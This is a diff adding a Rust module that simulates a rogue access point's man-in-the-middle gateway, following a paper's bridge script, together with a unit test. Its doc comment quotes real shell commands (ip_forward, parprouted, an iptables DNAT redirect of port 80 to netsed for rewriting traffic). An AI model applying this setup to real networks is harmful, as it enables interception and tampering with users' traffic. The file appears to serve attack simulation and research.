@@ -1,0 +1,99 @@
+//! The two-NIC MITM gateway, exactly as configured by the paper's
+//! Appendix A bridge script plus the Section 4.1 netfilter/netsed lines.
+//!
+//! ```text
+//! echo 1 > /proc/sys/net/ipv4/ip_forward
+//! ifconfig wlan0 192.168.0.1  netmask 255.255.255.0
+//! ifconfig eth1  192.168.0.2  netmask 255.255.255.0
+//! parprouted wlan0 eth1
+//! route add -host <corp gw> dev eth1
+//! route add default gw <corp gw>
+//! iptables -t nat -A PREROUTING -p tcp -d TargetIP --dport 80 \
+//!          -j DNAT --to GatewayIP:10101
+//! netsed tcp 10101 Target-IP 80 s/…/… s/…/…
+//! ```
+//!
+//! [`MitmGatewayConfig::apply`] performs the `echo`/`ifconfig`/`route`/
+//! `iptables` lines against a [`Host`]; the caller runs the returned
+//! [`Netsed`] and a [`Parprouted`] as apps on the same host.
+
+use rogue_netstack::netfilter::DnatRule;
+use rogue_netstack::{proto, Host, IfIndex, Ipv4Addr};
+use rogue_services::netsed::{Netsed, NetsedRule};
+use rogue_services::parprouted::Parprouted;
+
+/// Everything the attack script needs to know.
+#[derive(Clone, Debug)]
+pub struct MitmGatewayConfig {
+    /// Interface facing the rogue AP's wireless clients ("wlan0").
+    pub wlan_if: IfIndex,
+    /// Interface associated to the legitimate network ("eth1").
+    pub uplink_if: IfIndex,
+    /// The legitimate network's gateway/router address.
+    pub corp_gateway: Ipv4Addr,
+    /// The target web server whose port-80 traffic gets intercepted.
+    pub target_ip: Ipv4Addr,
+    /// Local port netsed listens on (the paper uses 10101).
+    pub netsed_port: u16,
+    /// netsed rewrite rules.
+    pub rules: Vec<NetsedRule>,
+}
+
+impl MitmGatewayConfig {
+    /// Apply the static configuration to the gateway host and return the
+    /// (netsed, parprouted) apps to run on it.
+    pub fn apply(&self, host: &mut Host) -> (Netsed, Parprouted) {
+        // echo 1 > /proc/sys/net/ipv4/ip_forward
+        host.ip_forward = true;
+        // parprouted answers ARP across the bridge.
+        host.proxy_arp = true;
+        // route add -host <corp gw> dev eth1
+        host.routes.add_host(self.corp_gateway, self.uplink_if);
+        // route add default gw <corp gw>
+        host.routes.add_default(self.corp_gateway, self.uplink_if);
+        // iptables -t nat -A PREROUTING -p tcp -d Target --dport 80
+        //          -j DNAT --to <gateway wlan ip>:<netsed port>
+        let gw_ip = host.iface(self.wlan_if).ip;
+        host.netfilter.add_dnat(DnatRule {
+            proto: Some(proto::TCP),
+            dst: Some(self.target_ip),
+            dport: Some(80),
+            to: (gw_ip, self.netsed_port),
+        });
+        let netsed = Netsed::new(self.netsed_port, (self.target_ip, 80), self.rules.clone());
+        let parprouted = Parprouted::new(self.wlan_if, self.uplink_if);
+        (netsed, parprouted)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rogue_dot11::MacAddr;
+    use rogue_sim::{Seed, SimRng};
+
+    #[test]
+    fn apply_configures_the_appendix_a_bridge() {
+        let mut gw = Host::new("gateway", SimRng::new(Seed(1)));
+        let wlan = gw.add_iface(MacAddr::local(1), Ipv4Addr::new(192, 168, 0, 1), 24);
+        let eth = gw.add_iface(MacAddr::local(2), Ipv4Addr::new(192, 168, 0, 2), 24);
+        let cfg = MitmGatewayConfig {
+            wlan_if: wlan,
+            uplink_if: eth,
+            corp_gateway: Ipv4Addr::new(192, 168, 0, 254),
+            target_ip: Ipv4Addr::new(10, 9, 9, 9),
+            netsed_port: 10101,
+            rules: vec![NetsedRule::new("a", "b")],
+        };
+        let (_netsed, _parprouted) = cfg.apply(&mut gw);
+        assert!(gw.ip_forward);
+        assert!(gw.proxy_arp);
+        assert!(gw.routes.has_host(Ipv4Addr::new(192, 168, 0, 254)));
+        assert_eq!(
+            gw.routes.lookup(Ipv4Addr::new(8, 8, 8, 8)).unwrap().ifindex,
+            eth,
+            "default route via the corp gateway"
+        );
+        assert!(gw.netfilter.is_active(), "DNAT rule installed");
+    }
+}
